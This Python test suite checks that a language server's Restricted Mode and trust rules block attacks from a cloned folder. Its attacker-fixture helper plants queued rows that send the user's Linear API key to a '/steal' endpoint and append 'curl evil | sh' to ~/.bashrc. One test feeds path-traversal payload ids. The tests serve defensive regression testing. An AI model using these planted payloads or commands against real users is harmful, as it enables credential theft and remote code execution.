"""Trust in the language server: Restricted Mode, trust granted without a restart, and what a
cloned folder's config or store cannot make the server do on folder open."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from tests.conftest import run_cli
from tests.http_sink import HttpSink, LinearApi, sink_fixture, slack_webhook  # noqa: F401
from tests.lsp_helpers import start_server, uri

SYNC_STATUS = "msp/syncStatus"
SHOW_MESSAGE = "window/showMessage"
HOOK = "/services/T1/B2/restricted"


def user_config(tmp_path: Path, config: dict[str, object]) -> None:
    """The user's own config (always trusted): the server's is <tmp>/user-config.json."""
    (tmp_path / "user-config.json").write_text(json.dumps(config), encoding="utf-8")


async def test_restricted_mode_records_but_never_delivers_until_trust_is_granted(
    tmp_path: Path, sink: HttpSink
) -> None:
    sink.route(HOOK, slack_webhook)
    user_config(tmp_path, {"integrations": {"slack": {"enabled": True, "delivery": "send"}}})
    folder = tmp_path / "project"
    folder.mkdir()
    env = {"SLACK_WEBHOOK_URL": f"{sink.url}{HOOK}"}
    async with start_server(
        tmp_path, [folder], env=env, init_options={"workspaceTrusted": False}
    ) as lsp:
        mark = lsp.mark()
        started = await lsp.command("startSession", project="demo")
        assert started["state"] == "active"  # recording works in Restricted Mode
        # The worker ran its pass and reported the outbox: one queued, nothing sent.
        await lsp.recorder.wait_for(SYNC_STATUS, lambda p: p["queued"] == 1, after=mark)
        with pytest.raises(Exception, match="Restricted Mode"):
            await lsp.command("flushOutbox")
        listed = (await lsp.command("listPayloads"))["payloads"]
        with pytest.raises(Exception, match="Restricted Mode"):
            await lsp.command("sendPayload", id=listed[0]["id"])
        assert sink.count() == 0

        mark = lsp.mark()
        lsp.client.protocol.notify("msp/trustChanged", {"workspaceTrusted": True})
        await lsp.recorder.wait_for(SYNC_STATUS, lambda p: p["sent"] == 1, after=mark)
        assert sink.count(HOOK) == 1  # granted without a restart


async def test_an_untrusted_folder_config_is_named_once_and_its_endpoint_never_used(
    tmp_path: Path, sink: HttpSink
) -> None:
    key = "lin_api_lsp_trust_key_0123456789"
    sink.route("/graphql", LinearApi(key))
    folder = tmp_path / "project"
    (folder / ".msp").mkdir(parents=True)
    (folder / ".msp" / "config.json").write_text(
        json.dumps(
            {
                "integrations": {
                    "linear": {
                        "enabled": True,
                        "delivery": "send",
                        "config": {"issueId": "ENG-1", "endpoint": f"{sink.url}/graphql"},
                    }
                }
            }
        )
    )
    async with start_server(tmp_path, [folder], env={"LINEAR_API_KEY": key}) as lsp:
        warned = await lsp.recorder.wait_for(
            SHOW_MESSAGE, lambda p: "integrations.linear.config.endpoint" in p["message"]
        )
        assert "MSP: Trust Folder Configuration" in warned["message"]
        await lsp.command("startSession", project="demo")
        await lsp.command("endSession")
        flushed = await lsp.command("flushOutbox", wait=1)
        assert flushed["sent"] == [] and sink.count() == 0
        # Granting the editor's trust does not trust the folder's config file: still nothing.
        mark = lsp.mark()
        lsp.client.protocol.notify("msp/trustChanged", {"workspaceTrusted": True})
        await lsp.log_line(lambda m: m.startswith("trust: workspace trusted"), after=mark)
        flushed = await lsp.command("flushOutbox", wait=1)
        assert flushed["sent"] == [] and sink.count() == 0
        warnings = [m for m in lsp.recorder.of(SHOW_MESSAGE) if "linear" in m["message"]]
        assert len(warnings) == 1  # said once, not at every reconfiguration


async def test_open_payload_refuses_an_id_that_is_a_path(tmp_path: Path) -> None:
    folder = tmp_path / "project"
    folder.mkdir()
    outside = tmp_path / "settings"
    async with start_server(tmp_path, [folder]) as lsp:
        await lsp.command("startSession", project="demo")
        for bad in ("../../../settings", "pay-1234567/../../x", "pay-ABCDEF12", f"{outside}"):
            with pytest.raises(Exception, match="is not a payload id"):
                await lsp.command("openPayload", id=bad, folderUri=uri(folder))
    assert not outside.exists()
    assert not list(tmp_path.glob("settings*"))


def plant_store(folder: Path, tmp_path: Path, sink: HttpSink) -> None:
    """The attacker's `.msp/msp.db`, made on their machine (another user key) and committed:
    queued rows that name the attacker's URLs, the user's credentials and `.bashrc`."""
    attacker = {"MSP_CONFIG_PATH": str(tmp_path / "attacker" / "config.json")}
    made = run_cli(folder, "start", "--project", "bait", env=attacker)
    assert made.returncode == 0, made.stderr
    rows = [
        (
            "linear",
            "graphql",
            {
                "kind": "graphql",
                "title": "x",
                "endpoint": f"{sink.url}/steal",
                "query": "mutation MspCommentCreate($input: CommentCreateInput!) "
                "{ commentCreate(input: $input) { success } }",
                "variables": {"input": {"issueId": "ENG-1", "body": "hi"}},
                "operationName": "MspCommentCreate",
                "auth": {"credential": "linear-api-key"},
            },
        ),
        (
            "slack",
            "http",
            {
                "kind": "http",
                "title": "x",
                "method": "POST",
                "url": f"{sink.url}/steal",
                "headers": {},
                "json": {"text": "hi"},
                "auth": {"credential": "linear-api-key"},
            },
        ),
        (
            "obsidian",
            "file",
            {
                "kind": "file",
                "title": "x",
                "path": ".bashrc",
                "content": "curl evil | sh\n",
                "mode": "append",
                "heading": None,
            },
        ),
    ]
    with sqlite3.connect(folder / ".msp" / "msp.db") as conn:
        for index, (integration, kind, body) in enumerate(rows):
            conn.execute(
                "INSERT INTO payloads (id, integration, hook, kind, title, body, status, "
                "idempotency_key, created_at) VALUES (?, ?, 'session_started', ?, 'x', ?, "
                "'queued', ?, '2026-01-01T00:00:00.000Z')",
                (f"pay-0000000{index}", integration, kind, json.dumps(body), f"k{index}"),
            )


async def test_opening_a_folder_with_a_committed_store_sends_nothing_anywhere(
    tmp_path: Path, sink: HttpSink
) -> None:
    """Finding 1: opening such a folder sent `Authorization: lin_api_…` to the attacker within
    6 s of initialize; finding 2: `vaultPath: ~` + a `.bashrc` row appended to ~/.bashrc."""
    key = "lin_api_committed_store_user_key_0123"
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    vault = home / "Notes"
    vault.mkdir()
    sink.route("/graphql", LinearApi(key))
    sink.route(HOOK, slack_webhook)
    user_config(  # the user's own, trusted integrations, all delivering
        tmp_path,
        {
            "integrations": {
                "linear": {
                    "enabled": True,
                    "delivery": "send",
                    "config": {"issueId": "ENG-1", "endpoint": f"{sink.url}/graphql"},
                },
                "slack": {"enabled": True, "delivery": "send"},
                "obsidian": {
                    "enabled": True,
                    "delivery": "send",
                    "config": {"vaultPath": str(vault)},
                },
            }
        },
    )
    folder = tmp_path / "cloned"
    folder.mkdir()
    plant_store(folder, tmp_path, sink)
    env = {"LINEAR_API_KEY": key, "SLACK_WEBHOOK_URL": f"{sink.url}{HOOK}", "HOME": str(home)}
    async with start_server(tmp_path, [folder], env=env) as lsp:
        warned = await lsp.recorder.wait_for("window/logMessage", lambda p: "held" in p["message"])
        assert "3 queued payload(s) are held" in warned["message"]
        flushed = await lsp.command("flushOutbox", wait=2)
        assert flushed["sent"] == []
        listed = (await lsp.command("listPayloads"))["payloads"]
        assert {p["status"] for p in listed} == {"generated"}
        assert all(p["lastError"].startswith("held:") for p in listed)
    assert sink.count("/steal") == 0 and sink.count() == 0
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", "Notes"]
